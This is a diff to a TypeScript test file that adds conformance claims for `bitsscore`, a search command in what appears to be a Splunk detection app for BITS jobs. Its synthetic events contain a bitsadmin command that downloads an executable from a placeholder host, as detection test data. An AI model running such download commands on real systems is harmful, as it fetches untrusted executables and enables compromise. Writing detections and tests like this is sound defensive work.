@@ -56,10 +56,24 @@ const allowlistClaims: readonly ConformanceClaim[] = [
   { id: 'allowlist-hides', claim: 'The filter macro hides the results that an entry covers and no others. Add an entry for any detection on process *conformance-hidden* first.', search: '| makeresults | eval process=split("a conformance-hidden b,a conformance-shown b", ",") | mvexpand process | `bits_allowlist("<id of the detection>")`', expected: 'the second row alone', needs: 'BITS Jobs' },
 ];
 
+const transfer = '| makeresults count=3 | streamstats count as n | eval process="bitsadmin /transfer j http://files.example.net/a.exe C:\\\\a.exe", other="o" . n';
+
+/** What `| bitsscore` takes for true of its start and of the protocol. */
+const commandClaims: readonly ConformanceClaim[] = [
+  { id: 'command-starts', claim: 'Splunk starts bin/bitsjobs.sh, which filename names, with command.arg.1, SPLUNK_HOME in its environment, and leaves the note of the launcher alone.', search: `${transfer} | head 1 | bitsscore | table bits_url`, expected: [{ bits_url: 'http://files.example.net/a.exe' }], needs: 'BITS Jobs' },
+  { id: 'command-keeps-fields', claim: 'Fields that required_fields does not ask for are merged back by _chunked_idx.', search: `${transfer} | bitsscore | where bits_score>0 | table n other`, expected: [{ n: '1', other: 'o1' }, { n: '2', other: 'o2' }, { n: '3', other: 'o3' }], needs: 'BITS Jobs' },
+  { id: 'command-refuses', claim: 'An error in the reply to getinfo ends the search with its text.', search: '| makeresults | bitsscore threshold=x', expected: "Error in 'bitsscore' command, with the text about threshold", needs: 'BITS Jobs' },
+  { id: 'command-warns', claim: 'A WARN of the inspector in the reply to getinfo is shown over the results. Set threshold = x under [bitsscore] in local/bitsscore.conf first.', search: '| makeresults | bitsscore', expected: 'results, and over them that the default 50 holds', needs: 'BITS Jobs' },
+  { id: 'command-without-node', claim: 'The answer of the launcher is shown. Put the path of a file that is no Node into local/node.path, where no other Node is installed.', search: '| makeresults | bitsscore', expected: 'an error that names the file, and local/node.path', needs: 'BITS Jobs' },
+  { id: 'command-stays-home', claim: 'A stateful command runs on the search head alone, and linux_x86_64 of the package that carries a Node does not travel to the indexers.', search: 'index=_internal | head 100 | bitsscore | stats count', expected: 'count 100 without a message of an indexer, where var/run/searchpeers/*/apps/DA-ESS-BitsJobs has no linux_x86_64', needs: 'BITS Jobs' },
+  { id: 'command-on-windows', claim: 'On a Windows search head a program that ends in .sh is not started.', search: '| makeresults | bitsscore', expected: 'an error that names bitsscore or bitsjobs.sh, and no other search is harmed', needs: 'BITS Jobs' },
+];
+
 export const conformanceClaims: readonly ConformanceClaim[] = [
   ...splClaims.map(({ id, claim, search, expected, lookups }): ConformanceClaim => ({ id, claim, search, expected, needs: lookups ? 'app' : 'nothing' })),
   ...tstatsClaims,
   ...cimClaims.map((claim): ConformanceClaim => ({ ...claim, needs: 'add-ons' })),
+  ...commandClaims,
   ...allowlistClaims,
   ...enterpriseClaims,
 ];
